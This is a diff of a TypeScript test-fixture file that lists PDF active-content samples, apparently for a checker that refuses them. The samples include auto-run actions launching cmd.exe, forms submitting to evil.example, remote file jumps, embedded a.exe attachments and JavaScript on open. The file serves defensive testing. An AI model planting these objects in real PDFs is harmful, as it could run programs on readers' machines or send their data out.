@@ -1,118 +1,117 @@
-// Everything in a PDF that acts by itself or carries another file, each as objects for an update of the small statement.
+// Everything in a PDF that acts or carries something, each as objects for an update of the small statement.
 
 import type { PdfObject } from './pdf-writer.ts';
 
 export interface ActiveContent {
   readonly name: string;
+  /** `strict`: only where scripts are refused. `never`: harmless, or behind a click; the same place with other content is refused. */
+  readonly refused: 'always' | 'strict' | 'never';
   /** A new catalog (1) or page (3), and objects from 5 on. No streams: these may be hidden in an object stream. */
   readonly objects: readonly PdfObject[];
 }
 
 const script = String.raw`<</S/JavaScript/JS(app.alert\(1\))>>`;
+const launch = '<</S/Launch/F(cmd.exe)>>';
+const address = '<</S/URI/URI(https://evil.example)>>';
+const submission = '<</S/SubmitForm/F(https://evil.example)>>';
+const print = '<</S/Named/N/Print>>';
+const attached = '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>';
+
+const always: readonly (readonly [string, ...PdfObject[]])[] = [
+  ['a program started', toCatalog('/OpenAction 5 0 R'), [5, launch]],
+  ['a program started by a click', toLink('/S/Launch/Win<</F(cmd.exe)>>')],
+  [
+    'a program started among the actions after a jump',
+    toCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[5 0 R 6 0 R]>>'),
+    [5, print],
+    [6, launch],
+  ],
+  [
+    'a program started by a bookmark',
+    toCatalog('/Outlines 5 0 R'),
+    [5, '<</Type/Outlines/First 6 0 R/Last 6 0 R/Count 1>>'],
+    [6, `<</Title(a)/Parent 5 0 R/A${launch}>>`],
+  ],
+  [
+    'a program started by the next step',
+    toPage('/PresSteps 5 0 R'),
+    [5, '<</Type/NavNode/NA 6 0 R>>'],
+    [6, launch],
+  ],
+  [
+    'a program started by the step before',
+    toPage('/PresSteps 5 0 R'),
+    [5, '<</Type/NavNode/PA 6 0 R>>'],
+    [6, launch],
+  ],
+  ['an address opened', toCatalog('/OpenAction 5 0 R'), [5, address]],
+  [
+    'an address opened after a jump',
+    toCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next${address}>>`),
+  ],
+  ['an address opened with the page', toPage('/AA<</O 5 0 R>>'), [5, address]],
+  ['a form that sends itself with the page', toPage('/AA<</O 5 0 R>>'), [5, submission]],
+  [
+    'a form that sends itself under the mouse',
+    toAnnotation('/Subtype/Widget/FT/Btn/AA<</E 5 0 R>>'),
+    [5, submission],
+  ],
+  ['data imported at opening', toCatalog('/OpenAction 5 0 R'), [5, '<</S/ImportData/F(a.fdf)>>']],
+  ['a jump into an attachment', toCatalog('/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a.pdf)>>>>')],
+  ['a jump to another file', toCatalog('/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>')],
+  [
+    'an attachment by name',
+    toCatalog('/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>'),
+    [5, attached],
+  ],
+  ['an attachment as a note', toAnnotation(`/Subtype/FileAttachment/FS${attached}`)],
+  [
+    'a portfolio',
+    toCatalog('/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(a.pdf)5 0 R]>>>>'),
+    [5, attached],
+  ],
+  [
+    'an associated file',
+    toCatalog('/AF[5 0 R]'),
+    [5, '<</Type/Filespec/UF(a.exe)/EF<</UF 4 0 R>>>>'],
+  ],
+  ['rich media', toAnnotation('/Subtype/RichMedia/RichMediaContent<<>>')],
+  ['a three-dimensional view', toAnnotation('/Subtype/3D/3DD 4 0 R')],
+  ['a film', toAnnotation('/Subtype/Movie/Movie<</F(a.avi)>>/A true')],
+  ['a film played by a click', toLink('/S/Movie/T(a)')],
+  ['a sound', toAnnotation('/Subtype/Sound/Sound 4 0 R')],
+  ['a sound played by a click', toLink('/S/Sound/Sound 4 0 R')],
+  [
+    'a rendition',
+    toAnnotation(String.raw`/Subtype/Screen/A<</S/Rendition/OP 0/JS(app.alert\(1\))>>`),
+  ],
+];
+
+const strict: readonly (readonly [string, ...PdfObject[]])[] = [
+  ['JavaScript at opening', toCatalog('/OpenAction 5 0 R'), [5, script]],
+  ['JavaScript by name', toCatalog('/Names<</JavaScript<</Names[(a)5 0 R]>>>>'), [5, script]],
+  ['JavaScript in an annotation', toAnnotation(`/Subtype/Link/A ${script}`)],
+  [
+    'JavaScript behind a jump',
+    toCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>'),
+    [5, script],
+  ],
+  ['JavaScript of a field', toAnnotation('/Subtype/Widget/FT/Tx/AA<</C 5 0 R>>'), [5, script]],
+  ['an XFA form', toCatalog('/AcroForm<</Fields[]/XFA 4 0 R>>')],
+];
+
+const never: readonly (readonly [string, ...PdfObject[]])[] = [
+  ['printing with the page', toPage('/AA<</O 5 0 R>>'), [5, print]],
+  ['printing with the document', toCatalog('/AA<</WC 5 0 R>>'), [5, print]],
+  ['an address behind a click', toLink('/S/URI/URI(https://bank.example)')],
+  ['a form that is sent by a click', toLink('/S/SubmitForm/F(https://bank.example)')],
+  ['data imported by a click', toLink('/S/ImportData/F(a.fdf)')],
+];
 
 export const activeContents: readonly ActiveContent[] = [
-  { name: 'JavaScript at opening', objects: [toCatalog('/OpenAction 5 0 R'), [5, script]] },
-  {
-    name: 'JavaScript by name',
-    objects: [toCatalog('/Names<</JavaScript<</Names[(a)5 0 R]>>>>'), [5, script]],
-  },
-  {
-    name: 'JavaScript in an annotation',
-    objects: [toPage(`/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A ${script}>>]`)],
-  },
-  {
-    name: 'JavaScript behind a jump',
-    objects: [toCatalog(`/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>`), [5, script]],
-  },
-  {
-    name: 'actions of the page',
-    objects: [toPage('/AA<</O 5 0 R>>'), [5, '<</S/Named/N/Print>>']],
-  },
-  {
-    name: 'actions of the document',
-    objects: [toCatalog('/AA<</WC 5 0 R>>'), [5, '<</S/Named/N/Print>>']],
-  },
-  {
-    name: 'a program started',
-    objects: [toCatalog('/OpenAction 5 0 R'), [5, '<</S/Launch/F(cmd.exe)>>']],
-  },
-  {
-    name: 'a program started by a click',
-    objects: [
-      toPage(
-        '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/Win<</F(cmd.exe)>>>>>>]',
-      ),
-    ],
-  },
-  {
-    name: 'an address opened',
-    objects: [toCatalog('/OpenAction 5 0 R'), [5, '<</S/URI/URI(https://evil.example)>>']],
-  },
-  {
-    name: 'an address opened after a jump',
-    objects: [
-      toCatalog('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>'),
-    ],
-  },
-  {
-    name: 'a form that sends itself',
-    objects: [
-      toPage(
-        '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://evil.example)>>>>]',
-      ),
-    ],
-  },
-  {
-    name: 'data imported',
-    objects: [
-      toPage('/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/ImportData/F(a.fdf)>>>>]'),
-    ],
-  },
-  {
-    name: 'a jump into an attachment',
-    objects: [toCatalog('/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a.pdf)>>>>')],
-  },
-  {
-    name: 'a jump to another file',
-    objects: [toCatalog('/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>')],
-  },
-  {
-    name: 'an attachment by name',
-    objects: [
-      toCatalog('/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>'),
-      [5, '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>'],
-    ],
-  },
-  {
-    name: 'an attachment as a note',
-    objects: [
-      toPage(
-        '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>]',
-      ),
-    ],
-  },
-  {
-    name: 'a portfolio',
-    objects: [
-      toCatalog('/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(a.pdf)5 0 R]>>>>'),
-      [5, '<</Type/Filespec/F(a.pdf)/EF<</F 4 0 R>>>>'],
-    ],
-  },
-  {
-    name: 'rich media',
-    objects: [
-      toPage('/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]'),
-    ],
-  },
-  { name: 'an XFA form', objects: [toCatalog('/AcroForm<</Fields[]/XFA 4 0 R>>')] },
-  {
-    name: 'a rendition',
-    objects: [
-      toPage(
-        `/Annots[<</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/OP 0/JS(app.alert\\(1\\))>>>>]`,
-      ),
-    ],
-  },
+  ...always.map(([name, ...objects]) => ({ name, refused: 'always' as const, objects })),
+  ...strict.map(([name, ...objects]) => ({ name, refused: 'strict' as const, objects })),
+  ...never.map(([name, ...objects]) => ({ name, refused: 'never' as const, objects })),
 ];
 
 function toCatalog(extra: string): PdfObject {
@@ -124,4 +123,12 @@ function toPage(extra: string): PdfObject {
     3,
     `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<<>>${extra}>>`,
   ];
+}
+
+function toAnnotation(entries: string): PdfObject {
+  return toPage(`/Annots[<</Type/Annot/Rect[0 0 9 9]${entries}>>]`);
+}
+
+function toLink(action: string): PdfObject {
+  return toAnnotation(`/Subtype/Link/A<<${action}>>`);
 }
